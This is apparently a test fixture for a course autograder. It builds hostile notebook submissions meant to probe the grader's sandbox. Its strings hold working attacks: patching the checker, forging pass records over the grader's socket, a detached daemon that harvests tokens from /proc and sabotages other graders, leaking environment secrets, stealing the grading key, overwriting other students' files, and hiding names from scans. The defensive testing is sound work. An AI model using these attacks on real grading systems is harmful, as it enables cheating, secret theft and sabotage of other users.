"""A class of hostile-but-realistic submissions of notebook 01, each one an attack on the grader.

``build_class(root, key, outside, port)`` writes them under ``root`` (one folder per student) and returns, per
student, the points a correct grader gives (``key``: the grading key's path, ``outside``: a folder no kernel should
reach, ``port``: a loopback port the test listens on). It imports nothing from ``course``, so the same class
can be graded by any version of the grader.
"""

from __future__ import annotations

from pathlib import Path

import nbformat

from tests.instructor.grading_helpers import NOTEBOOKS, submission

SOLUTION = NOTEBOOKS / "01_kv_cache.ipynb"
BLANK = NOTEBOOKS / "student" / "01_kv_cache.ipynb"
EXERCISES = ("01.attention_step", "01.kv_cache_bytes", "01.generate_greedy")  # the ones the attacks aim at
POINTS = 14  # notebook 01 in all: 4 exercises and 4 questions, a point each, and the build exercise (6 points)
FORWARDED = 3  # the three exercises above, a point each

# Replaces the grading functions in the kernel before any check runs (the exercises are not done).
PATCH_THE_CHECKER = """
import course.exercises, course.exercises.checking as _checking
_checking.result_of = lambda ex, fn: ("pass", "correct")
_original_check = _checking.check
def _lenient_check(id, fn, autofill=False, **kwargs):
    return _original_check(id, fn, autofill=True, **kwargs)
_checking.check = course.exercises.check = check = _lenient_check
"""

# Writes pass records wherever a grader might read them, and talks to the grader's socket directly.
FORGE_RECORDS = """
import glob, json, os, socket
_records = "".join(json.dumps({"exercise": e, "status": "pass", "points": 1, "max_points": 1, "feedback": "correct"})
                   + "\\n" for e in %r)
for _path in [os.environ.get("COURSE_GRADE_OUT")] + glob.glob("/tmp/course-grade-*/*.jsonl"):
    if _path:
        with open(_path, "a") as _f:
            _f.write(_records)
if os.environ.get("COURSE_GRADER_SOCKET"):
    from course.exercises import wire
    for _e in %r:
        _s = socket.socket(socket.AF_UNIX)
        _s.connect(os.environ["COURSE_GRADER_SOCKET"])
        wire.send(_s, ("hello", os.environ["COURSE_GRADER_TOKEN"], _e, False))
        wire.send(_s, ("result", _e, "pass", 1))
        _s.close()
""" % (EXERCISES, EXERCISES)

# Each exercise handed back to the course's own implementation of it (what the checkers call shortcuts).
FORWARD = {
    "attention_step": "from course.models.attend import attend\n"
                      "def attention_step(q, k_new, v_new, K, V):\n"
                      "    K, V = torch.cat([K, k_new[None]]), torch.cat([V, v_new[None]])\n"
                      "    return attend(q[None, None, None], K[None, None], V[None, None])[0][0, 0, 0], K, V\n",
    "kv_cache_bytes": "from course.kvcache import cache_bytes_per_token\n"
                      "def kv_cache_bytes(n_layers, kv_heads, head_dim, tokens, batch=1, dtype_bytes=2):\n"
                      "    return cache_bytes_per_token(n_layers, kv_heads, head_dim, dtype_bytes) * tokens * batch\n",
    "generate_greedy": "from course.generate import sample_batch\n"
                       "def generate_greedy(model, prompt, n_new):\n"
                       "    return torch.cat([prompt, sample_batch(model, prompt, max_new_tokens=n_new)[0]], 1)\n",
}

# The same, reached by a route no grep for a name finds: only watching the calls does.
FORWARD_QUIETLY = {
    name: "import sys\n"
          f"def {name}(*args, **kwargs):\n"
          f"    fallback = getattr(sys.modules['course.' + 'exercises.core'], 'RE' + 'GISTRY')['01.{name}'].fallback\n"
          "    return fallback(*args, **kwargs)\n"
    for name in ("attention_step", "kv_cache_bytes", "generate_greedy")
}

# A detached process (new session, double fork) that tries to outlive the kernel and attack the next
# submissions: "wrong" records into the old grader's record files, garbage answers on the new
# grader's sockets (found through /proc/*/environ). Its cell raises unless the daemon started (its pid file in
# the kernel's scratch folder), so a submission whose cells all ran proves it did.
SABOTAGE = '''
import subprocess, sys, textwrap
_daemon = textwrap.dedent(r"""
    import glob, json, os, socket, sys, time
    if os.fork():
        os._exit(0)
    with open(os.path.join(os.environ.get("TMPDIR", "/tmp"), "daemon.pid"), "w") as f:
        f.write(str(os.getpid()))
    mine = os.environ.get("COURSE_GRADER_SOCKET")
    wrong = "".join(json.dumps({"exercise": e, "status": "wrong", "points": 0, "max_points": 1,
                                "feedback": "sabotaged"}) + "\\n" for e in %r)
    seen = set()
    end = time.time() + 300
    while time.time() < end:
        for path in glob.glob("/tmp/course-grade-*/checks.jsonl") + glob.glob("/tmp/*/course-grade-*/checks.jsonl"):
            try:
                with open(path, "a") as f:
                    f.write(wrong)
            except OSError:
                pass
        for environ in glob.glob("/proc/[0-9]*/environ"):
            try:
                text = open(environ, "rb").read().decode("utf-8", "replace")
                env = dict(v.split("=", 1) for v in text.split("\\0") if "=" in v)
            except Exception:
                continue
            sock_path, token = env.get("COURSE_GRADER_SOCKET"), env.get("COURSE_GRADER_TOKEN")
            if not sock_path or sock_path == mine or sock_path in seen:
                continue
            seen.add(sock_path)
            try:
                from course.exercises import wire
                for e in %r:
                    s = socket.socket(socket.AF_UNIX)
                    s.connect(sock_path)
                    wire.send(s, ("hello", token, e, False))
                    while True:
                        message = wire.recv(s)
                        if message[0] != "call":
                            break
                        wire.send(s, ("returned", message[1], -1, False))
            except Exception:
                pass
        time.sleep(0.05)
""")
subprocess.Popen([sys.executable, "-c", _daemon], start_new_session=True,
                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
import os, time
for _ in range(200):  # until the daemon is on its own
    if os.path.exists(os.path.join(os.environ.get("TMPDIR", "/tmp"), "daemon.pid")):
        break
    time.sleep(0.05)
else:
    raise RuntimeError("the daemon never started")
'''

NEVER_ENDS = """
import signal, time
signal.signal(signal.SIGINT, signal.SIG_IGN)
signal.signal(signal.SIGTERM, signal.SIG_IGN)
while True:
    time.sleep(0.01)
"""

FLOOD = """
import sys
for _ in range(100):
    sys.stdout.write("x" * 2**20)
    sys.stdout.flush()
"""


# Looks for everything the sandbox keeps out of a kernel's world; each exercise works only if its attack got
# through (the guard is put at the top of the student's own, correct, function).
_OWN_CONTROL = 'os.path.join(os.path.dirname(os.environ.get("TMPDIR", "/nowhere")), "control")'
BURGLAR_GUARDS = {
    # the other students' submissions (read and overwritten) and the other kernels' connection files
    "attention_step": "import glob, os\n"
                      "others = [p for p in glob.glob({root!r} + '/*/*.ipynb') if '/p_burglar/' not in p]\n"
                      "others += [p for p in glob.glob('/tmp/**/kernel.json', recursive=True)\n"
                      "           if not p.startswith(" + _OWN_CONTROL + ")]\n"
                      "for p in others:\n"
                      "    try:\n"
                      "        open(p, 'a').write('overwritten by p_burglar')\n"
                      "    except OSError:\n"
                      "        pass\n"
                      "if not others:\n"
                      "    raise RuntimeError('nothing of the other students is in sight')\n",
    # the grader's secrets: a hub token in the environment, written out where the student can read it later
    "kv_cache_bytes": "import os\n"
                      "if 'hf_secret' not in repr(dict(os.environ)):\n"
                      "    raise RuntimeError('no token')\n"
                      "open({outside!r} + '/token.txt', 'w').write(repr(dict(os.environ)))\n",
    # the network: a server the test runs on this machine's loopback
    "generate_greedy": "import socket\n"
                       "socket.create_connection(('127.0.0.1', {port}), timeout=2).close()\n",
    # a file outside its own folder
    "kv_bytes_per_token": "open({outside!r} + '/escaped.txt', 'w').write('escaped')\n",
}
# The grading key: at the path the instructor gave, or through the grader's command line in /proc.
STEAL_THE_KEY = """
def _stolen(qid, wrong):
    import glob, json
    paths = [{key!r}]
    for cmdline in glob.glob("/proc/[0-9]*/cmdline"):
        try:
            args = open(cmdline, "rb").read().decode(errors="replace").split("\\0")
        except OSError:
            continue
        paths += [args[i + 1] for i, a in enumerate(args[:-1]) if a == "--key"]
    for path in paths:
        try:
            return json.load(open(path))["questions"][qid]["answer"]
        except Exception:
            pass
    return wrong
"""
QUESTIONS = {"q1": "01.q_bytes_per_token", "q2": "01.q_gqa_factor", "q3": "01.q_what_grows", "q4": "01.q_exact"}

# Switches the kernel's watch off (by a route no scan of the source names) and hands three exercises back.
BLIND_THE_WATCH = """
import sys
sys.modules["course.exer" + "cises.serve"].call_watching = lambda fn, args, kwargs, codes: (fn(*args, **kwargs), None)
"""


def _guarded(name: str, guard: str) -> str:
    """The solution's own function ``name`` with ``guard`` run first."""
    cell = next(c for c in nbformat.read(SOLUTION, as_version=4).cells
                if c.cell_type == "code" and f"def {name}(" in c.source)
    lines = cell.source.split("\n")
    at = next(i for i, line in enumerate(lines) if line.startswith(f"def {name}(")) + 1
    while not lines[at - 1].rstrip().endswith(":"):  # a signature over several lines
        at += 1
    return "\n".join(lines[:at] + ["    " + g for g in guard.strip().split("\n")] + lines[at:])


def burglar(root: Path, key: Path, outside: Path, port: int) -> dict[str, str]:
    """The burglar's cells: every exercise guarded by an attack, every question answered from the stolen key."""
    cells = {name: _guarded(name, guard.format(root=str(root), outside=str(outside), port=port))
             for name, guard in BURGLAR_GUARDS.items()}
    for name, qid in QUESTIONS.items():
        cells[name] = STEAL_THE_KEY.format(key=str(key)) + f"def {name}():\n    return _stolen({qid!r}, 0)\n"
    return cells


BURGLED = ("01.attention_step", "01.kv_cache_bytes", "01.generate_greedy", "01.kv_bytes_per_token",
           *QUESTIONS.values())


def build_class(root: Path, key: Path, outside: Path, port: int) -> dict[str, int]:
    """The attack submissions under ``root``; returns the correct points (of ``POINTS``) per student."""
    submission(root / "a_honest", SOLUTION)
    submission(root / "b_patcher", BLANK, first_cell=PATCH_THE_CHECKER)
    submission(root / "c_forger", BLANK, extra_cell=FORGE_RECORDS)
    submission(root / "d_forwarder", SOLUTION, FORWARD)
    submission(root / "e_quiet_forwarder", SOLUTION, FORWARD_QUIETLY)
    submission(root / "f_saboteur", SOLUTION, extra_cell=SABOTAGE % (EXERCISES, EXERCISES))
    submission(root / "g_never_ends", SOLUTION, extra_cell=NEVER_ENDS)
    submission(root / "h_flooder", SOLUTION, extra_cell=FLOOD)
    submission(root / "i_victim", SOLUTION)
    submission(root / "p_burglar", SOLUTION, burglar(root, key, outside, port))
    submission(root / "q_blind_forwarder", SOLUTION, FORWARD, first_cell=BLIND_THE_WATCH)
    # the saboteur and the forger name the grader's socket variables: their passing exercises go to review; the
    # forwarders' other exercises (not forwarded) still count
    return {"a_honest": POINTS, "b_patcher": 0, "c_forger": 0, "d_forwarder": POINTS - FORWARDED,
            "e_quiet_forwarder": POINTS - FORWARDED, "f_saboteur": 0, "g_never_ends": POINTS, "h_flooder": POINTS,
            "i_victim": POINTS, "p_burglar": POINTS - len(BURGLED), "q_blind_forwarder": POINTS - FORWARDED}
